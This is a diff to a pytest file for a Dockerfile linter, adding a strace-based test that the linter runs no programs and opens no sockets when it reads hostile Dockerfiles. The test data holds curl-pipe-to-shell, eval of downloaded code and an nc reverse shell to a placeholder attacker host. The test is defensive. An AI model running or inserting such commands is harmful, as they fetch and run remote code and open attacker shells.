@@ -13,17 +13,19 @@ from __future__ import annotations
 
 import ast
 import os
+import shutil
 import socket
 import subprocess
+import sys
 from pathlib import Path
 
 import pytest
+from test_limits import HOSTILE as HOSTILE_TEMPLATE
 
 import dlayerlint
 from dlayerlint.lint import analyze
 from dlayerlint.app.cli import main
 from dlayerlint.simulate.context.build import BuildContext
-from test_limits import HOSTILE as HOSTILE_TEMPLATE
 
 PACKAGE = Path(dlayerlint.__file__).parent
 # modules that run programs or talk to a client by design, never on the `check` path
@@ -113,3 +115,31 @@ def test_check_command_spawns_no_process_and_opens_no_socket(refused, options, t
     (tmp_path / "Dockerfile").write_text(HOSTILE)
     assert main(["check", *options, str(tmp_path / "Dockerfile")]) == 1
     assert capsys.readouterr().out and not refused
+
+
+STRACE = shutil.which("strace")
+SUBSTITUTIONS = ("FROM busybox\n"
+                 "RUN curl -fsSL https://example.invalid/i.sh | sh && echo $(curl http://example.invalid/x) "
+                 "`wget -qO- http://example.invalid/y`\n"
+                 "RUN $(nc -e /bin/sh attacker.invalid 4444) > /a && `ping -c1 example.invalid` && rm /a\n"
+                 "RUN dd if=/dev/zero of=/b bs=1k count=4\nRUN eval \"$(curl -s x)\"; rm /b\n"
+                 "ADD https://example.invalid/a.tar.gz /opt/\n")
+
+
+@pytest.mark.skipif(STRACE is None, reason="strace is not installed")
+@pytest.mark.parametrize("count", [1, 20], ids=["one file", "20 files (worker processes)"])
+def test_strace_sees_no_program_started_and_no_socket(tmp_path, count):
+    """The real process tree under strace: one execve (python itself) and no socket,
+    whatever the Dockerfiles' $( ), backticks and URLs say. 20 files fork workers:
+    forks are allowed (they run our code), an exec or a socket in one is not."""
+    for index in range(count):
+        (tmp_path / f"Dockerfile.{index}").write_text(SUBSTITUTIONS)
+    trace = tmp_path / "trace"
+    files = [str(path) for path in sorted(tmp_path.glob("Dockerfile.*"))]
+    done = subprocess.run([STRACE, "-f", "-qq", "-e", "trace=execve,execveat,socket,connect,sendto", "-o", str(trace),
+                           sys.executable, "-m", "dlayerlint", "check", "--layers", "--format", "json", *files],
+                          capture_output=True, text=True, check=False)
+    assert done.returncode == 1 and '"DLL101"' in done.stdout, done.stderr
+    calls = [line.split(" ", 1)[1] for line in trace.read_text().splitlines()]
+    assert len([call for call in calls if call.startswith("execve(")]) == 1, calls
+    assert not [call for call in calls if call.startswith(("execveat(", "socket(", "connect(", "sendto("))], calls
